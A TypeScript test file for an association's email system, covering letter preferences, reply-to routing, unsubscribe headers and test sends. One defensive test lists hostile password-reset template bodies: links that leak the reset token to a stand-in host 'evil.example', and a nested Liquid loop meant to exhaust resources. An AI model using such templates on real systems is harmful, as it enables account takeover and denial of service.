import { randomUUID } from "node:crypto";
import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { openUnsubscribeToken } from "@/lib/credentials/unsubscribe-tokens";
import { submitNomination } from "@/lib/operations/nomination/submit-nomination";
import { database } from "@/lib/store/prisma";
import { changeLetterChoice } from "@/lib/store/letters/letter-choices";
import { findMember } from "@/lib/store/members/members";
import { write } from "@/lib/store/write";
import { LETTER_TEXTS } from "@/messages/letters";
import { importRows, makeStaff, voters } from "@/test/fixtures/association";
import { context } from "@/test/fixtures/credentials";
import { prepareOutbox } from "@/test/fixtures/outbox";
import { day, makeSeason, offer } from "@/test/fixtures/seasons";
import { headerOf, sendDue } from "@/test/fixtures/sent-letters";
import { composeTest } from "./preview-letter";
import { sendTest } from "./send-test";

// Before the environment is read.
process.env["ASSOCIATION_HELP_EMAIL"] = "help@example.org";
const outbox = prepareOutbox();
const YEAR = 2053;
const [READER, LIAISON, SECOND, CHOOSER] = ["CL-READER", "CL-LIAISON", "CL-SECOND", "CL-CHOOSER"];
const addressOf = (id: string) => `${id.toLowerCase()}@example.org`;

beforeAll(async () => {
  await importRows({
    "members.csv": voters(READER, LIAISON, SECOND, CHOOSER).map((row) => ({
      ...row,
      email: addressOf(row["memberId"] ?? ""),
    })),
    "committees.csv": ["CL-A", "CL-B", "CL-TWO", "CL-NAMED", "CL-LEFT"].map((code) => ({
      code,
      name: code,
      positions: "Member",
    })),
  });
  await makeStaff(LIAISON, "reviewer", ["CL-A", "CL-TWO", "CL-NAMED"]);
  await makeStaff(SECOND, "reviewer", ["CL-TWO"]);
  const liaisons = { "CL-NAMED": SECOND, "CL-LEFT": CHOOSER };
  for (const [code, liaisonId] of Object.entries(liaisons))
    await database().committee.update({ where: { code }, data: { liaisonId } });
  // Seven days before answers close is the last day of reminders that has come.
  await makeSeason(YEAR, { answers: 6, closes: 5 });
});
beforeEach(() => outbox.server.open());

const nominate = (committeeCode: string) =>
  submitNomination(context(), {
    voterId: READER,
    candidateId: CHOOSER,
    recordId: "CL-1",
    year: YEAR,
    committeeCode,
    position: "Member",
    effectiveDate: day(90),
    candidateName: "C",
    qualifications: "",
    priorityCode: "",
    nominationSource: "",
  });

describe("a member who reads a kind of letters on the site only", () => {
  const save = (alwaysByEmail: string[]) =>
    database().season.update({ where: { year: YEAR }, data: { alwaysByEmail } });
  const queue = (occasion: string) =>
    write(context(), () => ({
      result: undefined,
      letters: [
        {
          kind: "deadline-moved",
          memberId: CHOOSER,
          year: YEAR,
          aboutId: "nominationsClose",
          occasion: `${occasion} ${day(5)}`,
        },
      ],
    }));

  it("gets it by e-mail in a season that says so, without a way to turn it off, and not in another", async () => {
    await changeLetterChoice(context(), CHOOSER, (before) => ({ ...before, siteOnly: ["deadline-moved"] }));
    await save([]);
    await queue("one");
    expect(await sendDue(outbox)).toEqual([]);
    expect(outbox.outcomes()).toEqual(["site"]);
    await save(["deadline-moved"]);
    await queue("two");
    const [letter, ...others] = await sendDue(outbox);
    expect([letter?.to, others]).toEqual([addressOf(CHOOSER), []]);
    expect(headerOf(letter?.mail, "list-unsubscribe")).toBeUndefined();
    expect(letter?.mail.html).not.toContain("/letters/choices");
  });

  it("can turn off every other kind of the season", async () => {
    await changeLetterChoice(context(), CHOOSER, (before) => ({ ...before, siteOnly: [] }));
    await save(["not-selected"]);
    await queue("three");
    const [letter] = await sendDue(outbox);
    expect(headerOf(letter?.mail, "list-unsubscribe")).toContain("/unsubscribe/");
    expect(letter?.mail.html).toContain("/letters/choices");
  });
});

describe("an answer to a letter", () => {
  const replyTo = async (committeeCode: string) => {
    await offer({ memberId: READER, committeeCode, year: YEAR });
    const [letter, ...others] = await sendDue(outbox);
    expect(others).toEqual([]);
    return letter?.mail.replyTo?.map(({ address }) => address);
  };

  it.each([
    ["CL-NAMED", SECOND],
    ["CL-A", LIAISON],
  ])(
    "goes to the liaison of its committee, and without one to the reviewer responsible for it: %s",
    async (committeeCode, liaison) => {
      expect(await replyTo(committeeCode)).toEqual([addressOf(liaison)]);
    },
  );

  it.each([
    ["answer-reminder", `${YEAR}/${day(6)}/7`],
    ["deadline-moved", `${YEAR} answersClose ${day(6)}`],
  ] as const)(
    "to letters about all open offers goes there, too, where they have the same: %s",
    async (kind, occasion) => {
      const answeredTo = async (memberId: string) => {
        const aboutId = kind === "deadline-moved" ? "answersClose" : "";
        const letter = { kind, memberId, year: YEAR, occasion, aboutId };
        await write(context(), () => ({ result: undefined, letters: [letter] }));
        const [sent, ...others] = await sendDue(outbox);
        expect(others).toEqual([]);
        return sent?.mail.replyTo?.map(({ address }) => address);
      };
      const offered = async (memberId: string, codes: readonly string[]) => {
        await database().place.deleteMany({ where: { memberId } });
        for (const committeeCode of codes) await offer({ memberId, committeeCode, year: YEAR });
        await sendDue(outbox);
        return memberId;
      };
      expect(await answeredTo(await offered(READER, ["CL-NAMED"]))).toEqual([addressOf(SECOND)]);
      expect(await answeredTo(await offered(CHOOSER, ["CL-NAMED", "CL-A"]))).toEqual(["help@example.org"]);
    },
  );

  it("goes there from the voter of a nomination as well", async () => {
    await nominate("CL-NAMED");
    const letters = await sendDue(outbox);
    const received = letters.find(({ to }) => to === addressOf(READER));
    expect(received?.mail.replyTo?.map(({ address }) => address)).toEqual([addressOf(SECOND)]);
  });

  it.each(["CL-B", "CL-TWO", "CL-LEFT"])(
    "goes to the help address where the committee has no liaison, one who left the staff, or more than one: %s",
    async (committeeCode) => {
      expect(await replyTo(committeeCode)).toEqual(["help@example.org"]);
    },
  );

  it("goes to the help address where the letter is about no committee", async () => {
    await outbox.ask();
    const [letter] = await sendDue(outbox);
    expect(letter?.mail.replyTo?.map(({ address }) => address)).toEqual(["help@example.org"]);
  });
});

describe("a text of the association's that leads elsewhere", () => {
  const own = (body: string) =>
    database().letterText.create({
      data: {
        id: randomUUID(),
        kind: "password-reset",
        language: "en",
        year: 0,
        version: 1,
        subject: "Ours",
        body,
        savedAt: new Date(),
        savedBy: LIAISON,
      },
    });
  const send = async () => {
    const sentTo = await outbox.ask();
    const [letter, ...others] = await sendDue(outbox);
    expect(others).toEqual([]);
    const { answer, body } = await database().letter.findFirstOrThrow({ where: { sentTo } });
    return { mail: letter?.mail, answer, body };
  };
  afterEach(async () => {
    await database().letterText.deleteMany();
  });

  it.each([
    "[Choose](https://evil.example/?u={{ link }})",
    "[Choose]({{ link }}) https://evil.example/?u={{ link }}",
    "[Choose]({{ link }}) {{ association | append: '.evil.example' }}",
    "{% for a in (1..9000) %}{% for b in (1..9000) %}x{% endfor %}{% endfor %}[Choose]({{ link }})",
    "{{ nobody }} [Choose]({{ link }})",
    "Choose.",
  ])("is replaced by Rostrum's own when the letter is sent, and the desk says why: %s", async (body) => {
    await own(body);
    const { mail, answer } = await send();
    expect(mail?.subject).toBe("Choose a new password");
    for (const part of [mail?.html, mail?.text]) {
      expect(part).toMatch(/\/reset-password#[\w-]{43}/);
      expect(part).not.toContain("evil");
    }
    expect(answer).toContain("Sent in Rostrum's own words");
  });

  it("is sent as it is where it leads nowhere else, with its secret in no row", async () => {
    await own("Ours: [Choose]({{ link }})");
    const { mail, answer, body } = await send();
    expect([mail?.subject, answer]).toEqual(["Ours", expect.not.stringContaining("Rostrum")]);
    const [, token = "none"] = /\/reset-password#([\w-]{43})/.exec(mail?.html ?? "") ?? [];
    expect(mail?.text).toContain(`/reset-password#${token}`);
    expect(body).toContain("Ours:");
    expect(body).not.toContain(token);
  });
});

describe("a test of a letter", () => {
  const TESTER = SECOND;
  const sendTo = async (memberId: string) => {
    const [member, tester] = await Promise.all([findMember(memberId), findMember(TESTER)]);
    if (!member || !tester) throw new Error("Both are members");
    const text = LETTER_TEXTS.en.kinds["nomination-received"];
    const draft = { kind: "nomination-received", locale: "en", year: YEAR, text, member } as const;
    const test = await composeTest(draft, tester, context());
    if ("faults" in test) throw new Error("The text has no faults");
    await sendTest(test, new Date());
    const [letter, ...others] = await sendDue(outbox);
    expect([letter?.to, others]).toEqual([addressOf(TESTER), []]);
    return letter;
  };

  it("has the headers that the letter itself had, and its own Message-ID", async () => {
    await database().nomination.deleteMany();
    await nominate("CL-NAMED");
    const real = (await sendDue(outbox)).find(({ to }) => to === addressOf(READER));
    const test = await sendTo(READER);
    expect(test?.subject).toBe(real?.subject);
    expect(test?.mail.replyTo).toEqual(real?.mail.replyTo);
    const keys = (letter: typeof real) => letter?.mail.headers.map(({ key }) => key);
    expect(keys(test)).toEqual(keys(real));
    expect(keys(test)).toContain("list-unsubscribe-post");
    expect(test?.mail.messageId).not.toBe(real?.mail.messageId);
  });

  it("has a List-Unsubscribe that is the tester's own, and turns off nothing for the member shown", async () => {
    const address = headerOf((await sendTo(READER))?.mail, "list-unsubscribe") ?? "";
    const [, token = ""] = /\/unsubscribe\/([^>]+)>/.exec(address) ?? [];
    expect(openUnsubscribeToken(token)).toEqual({ memberId: TESTER, kind: "nomination-received" });
  });

  it("is answered to the help address where it is filled with an example", async () => {
    const letter = await sendTo(LIAISON);
    expect(letter?.mail.text).toContain("Professional Standards");
    expect(letter?.mail.replyTo?.map(({ address }) => address)).toEqual(["help@example.org"]);
  });
});
